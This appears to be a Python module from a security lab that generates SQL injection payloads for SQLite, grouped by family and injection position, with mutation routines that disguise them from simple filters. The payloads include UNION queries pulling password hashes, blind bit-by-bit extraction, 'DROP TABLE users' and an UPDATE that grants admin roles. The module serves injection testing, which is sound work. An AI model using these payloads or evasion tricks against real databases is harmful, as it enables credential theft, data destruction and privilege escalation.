"""Texts that try to become code, as data, and the disguises that get them past simple filters.

Grouped by what they are after, and written for SQLite. A payload is only text: it has an effect on
a statement that pastes it in, and none on one that does not.
"""

from __future__ import annotations

import random
import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from typing import Literal

from labs.arguments import whole

Place = Literal["text", "number", "order"]

_QUOTED = {
    "tautology": (
        "' OR 1=1 --",
        "' OR '1'='1",
        "%' OR 1=1 --",
        "' OR 2>1 --",
        "' OR 'a' LIKE 'a",
        "' OR amount > 0 --",
        "' OR NOT 0 --",
        "' OR number BETWEEN 1 AND 9999 --",
        "' OR customer <> '' --",
        "' OR customer = 'bergsbageri' --",
        "' OR length(customer) > 3 --",
        "' OR 1 IN (1, 2) --",
        "' OR EXISTS (SELECT 1) --",
        "' OR 'O''Brien' = 'O''Brien' --",
    ),
    "comment": (
        "' --",
        "%' --",
        "a' /*",
        "%' /* rest",
        "' -- '",
        "%' AND 1=1 --",
        "%' AND NULL IS NULL /*",
        "';--",
    ),
    "union": (
        "zz' UNION SELECT 1, name, password_hash, 0 FROM users --",
        "zz' UNION ALL SELECT 1, id, role, 0 FROM users --",
        "zz' UNION SELECT number, customer, description, cost FROM invoices --",
        "zz' UNION SELECT 1, actor, what, 0 FROM activity --",
        "zz' UNION SELECT 1, group_concat(password_hash), '', 0 FROM users --",
        "zz' UNION SELECT 1, (SELECT password_hash FROM users WHERE id='leena'), '', 0 --",
        "%' EXCEPT SELECT number, buyer, description, amount FROM invoices --",
        "zz' UNION VALUES (1, 'x', 'y', 0) --",
        "zz' UNION SELECT password_hash FROM users --",
        "zz' UNION SELECT what FROM activity --",
    ),
    "subquery": (
        "%' AND (SELECT count(*) FROM users) > 0 --",
        "%' AND (SELECT role FROM users WHERE id='leena') = 'admin' --",
        "%' AND unicode(substr((SELECT password_hash FROM users LIMIT 1), 1, 1)) & 1 --",
        "' || (SELECT password_hash FROM users LIMIT 1) || '",
        "' || (SELECT '') || '",
        "%' AND EXISTS (SELECT 1 FROM users WHERE id LIKE 'l%') --",
        "' OR (SELECT length(password_hash) FROM users LIMIT 1) > 3 --",
        "' OR CASE WHEN (SELECT 1 FROM users LIMIT 1) THEN 1 ELSE 0 END --",
    ),
    "stumble": (
        "'",
        "''",
        "'''",
        "O'Leary",
        "';",
        "'; DROP TABLE users; --",
        "'; UPDATE users SET role='admin' --",
        "' AND",
        "')",
        "' ORDER BY 99 --",
        "' AND abs(-9223372036854775808) --",
        "' GLOB '",
        "\\' OR 1=1 --",
        "%' AND load_extension('x') --",
        "%' AND nosuchfunction(1) --",
        "x' COLLATE nowhere --",
    ),
}

_BARE = {
    "tautology": (
        "0 OR 1=1",
        "0 OR 1=1 --",
        "0 OR 2>1",
        "0 OR NOT 0",
        "0 OR customer <> ''",
        "0 OR customer LIKE 'b%'",
        "-1 OR 1",
        "0 OR amount",
        "0 OR number IN (502, 505)",
        "amount OR 1",
    ),
    "comment": ("0 --", "0 /*", "0 OR 1 --", "0) --"),
    "union": (
        "0 UNION SELECT 1, name, password_hash, 0 FROM users --",
        "9e9 UNION ALL SELECT 1, id, role, 0 FROM users --",
        "9e9 UNION SELECT number, customer, description, cost FROM invoices --",
    ),
    "subquery": (
        "(SELECT count(*) FROM users)",
        "(SELECT unicode(password_hash) FROM users LIMIT 1)",
        "CASE WHEN (SELECT role FROM users WHERE id='leena')='admin' THEN 0 ELSE 9e9 END",
        "0 AND (SELECT length(password_hash) FROM users LIMIT 1) > 3",
    ),
    "stumble": (
        "'",
        "0'",
        "0; DROP TABLE users",
        "0 AND",
        "nosuchcolumn",
        "0)",
        "load_extension('x')",
    ),
}

_ORDER = {
    "hidden": ("cost", "cost DESC", "customer", "buyer, cost", "-cost", "invoices.cost", "rowid"),
    "subquery": (
        "(SELECT password_hash FROM users LIMIT 1)",
        "CASE WHEN (SELECT role FROM users WHERE id='leena')='admin' THEN number ELSE -number END",
        "CASE WHEN (SELECT unicode(password_hash) & 1 FROM users) THEN amount ELSE -amount END",
        "(SELECT name FROM users WHERE id = 'maja'), number",
        "number * (SELECT count(*) FROM activity)",
        "iif((SELECT count(*) FROM users) > 3, buyer, number)",
    ),
    "expression": (
        "number DESC",
        "number % 3",
        "random() * 0 + number",
        "length(buyer)",
        "amount, 1=1",
        "1",
        "2 DESC",
        "-number",
        "number LIMIT 1",
        "number LIMIT 2 OFFSET 1",
        "amount --",
        "amount /*",
        "CASE WHEN 1=1 THEN number ELSE buyer END",
        "instr(description, 'pipes')",
    ),
    "union": (
        "number UNION SELECT 1, name, password_hash, 0 FROM users",
        "1 LIMIT 0 UNION SELECT 1, id, role, 0 FROM users --",
    ),
    "stumble": (
        "'",
        '"',
        "nosuchcolumn",
        "number;",
        "number; DROP TABLE users",
        "(",
        "99",
        "amount DESC,",
        "number COLLATE nowhere",
        "load_extension('x')",
        '"cost"',
        "[cost]",
        "`cost`",
        "NEWEST; --",
    ),
}

_PLACES: dict[str, dict[str, tuple[str, ...]]] = {
    "text": _QUOTED,
    "number": _BARE,
    "order": _ORDER,
}

FAMILIES = {place: tuple(families) for place, families in _PLACES.items()}
"""The kinds of payload for each place: inside quotation marks, as a number, after ORDER BY."""


@dataclass(frozen=True, slots=True)
class Payload:
    """One text, with its kind and the disguise that it wears."""

    text: str
    family: str
    disguise: str = "none"


def payloads(
    place: Place,
    rng: random.Random,
    *,
    count: int,
    families: Iterable[str] = (),
) -> list[Payload]:
    """Every payload for a place, and then seeded mutations of them until there are ``count``.

    Args:
        place: Where the text goes: ``"text"``, ``"number"`` or ``"order"``.
        rng: Draws the mutations.
        count: How many there are at least.
        families: Which kinds, see ``FAMILIES``; all by default.

    Raises:
        ValueError: If there is no such place or kind, or ``count`` is not within 1 to 2,000.

    >>> made = payloads("text", random.Random(1), count=200)
    >>> len(made) >= 200, len({one.text for one in made}) == len(made)
    (True, True)
    """
    if place not in _PLACES:
        raise ValueError(f"place must be one of {', '.join(_PLACES)}, not {place!r}")
    count = whole("count", count, low=1, high=2_000)
    chosen = tuple(families) or FAMILIES[place]
    for family in chosen:
        if family not in FAMILIES[place]:
            kinds = ", ".join(FAMILIES[place])
            raise ValueError(f"families must be of {kinds}, not {family!r}")
    plain = [Payload(one, family) for family in chosen for one in _PLACES[place][family]]
    made = {one.text: one for one in plain}
    for _ in range(40 * count):
        if len(made) >= count:
            break
        base = rng.choice(plain)
        names = rng.sample(list(DISGUISES), rng.choice((1, 1, 2)))
        changed = base.text
        for name in names:
            changed = DISGUISES[name](changed, rng)
        made.setdefault(changed, Payload(changed, base.family, " and ".join(names)))
    return list(made.values())


def _outside(source: str, change: Callable[[str], str]) -> str:
    """Change what is not a short text of its own, such as ``'admin'``."""
    parts = re.split(r"('[\w%$ ]*')", source)
    return "".join(part if place % 2 else change(part) for place, part in enumerate(parts))


def _case(source: str, rng: random.Random) -> str:
    return _outside(source, lambda part: "".join(rng.choice((c.lower(), c.upper())) for c in part))


def _whitespace(source: str, rng: random.Random) -> str:
    gaps = ("\t", "\n", "\r\n", "\f", "  ", " \t ")
    return _outside(source, lambda part: re.sub(" ", lambda _: rng.choice(gaps), part))


def _comments(source: str, rng: random.Random) -> str:
    gaps = ("/**/", "/* */", " /*x*/", "/*!*/", " -- \n")
    return _outside(
        source, lambda part: re.sub(r"(?<=\S) (?=\S)", lambda _: rng.choice(gaps), part)
    )


def _ending(source: str, rng: random.Random) -> str:
    head = re.sub(r"\s*(--|/\*).*\Z", "", source, flags=re.DOTALL)
    return head + rng.choice((" --", " -- x", " /*", "\n--", "--\t", " /*/"))


def _quotes(source: str, rng: random.Random) -> str:
    return source.replace("'", rng.choice(("''", "''''", "'", "’", "＇", "%27", "\\'", "'\\")), 1)


def _encoding(source: str, rng: random.Random) -> str:
    def hidden(found: re.Match[str]) -> str:
        word = found[1]
        as_hex = f"CAST(X'{word.encode().hex()}' AS TEXT)"
        return rng.choice((as_hex, f"char({','.join(str(ord(c)) for c in word)})"))

    if re.search(r"'\w+'", source):
        return re.sub(r"'(\w+)'", hidden, source)
    return re.sub(r"\b1\b", rng.choice(("0x1", "1e0", "01", "+1", "(1)")), source)


def _around(source: str, rng: random.Random) -> str:
    words = ("Kafé", "100 %", "åäö", "🌷", "النور", "_", "pipes")
    return rng.choice(words) + source


DISGUISES: dict[str, Callable[[str, random.Random], str]] = {
    "case": _case,
    "whitespace": _whitespace,
    "comments": _comments,
    "another ending": _ending,
    "quotation marks": _quotes,
    "encoding": _encoding,
    "something before": _around,
}
"""Ways to change how a payload looks."""
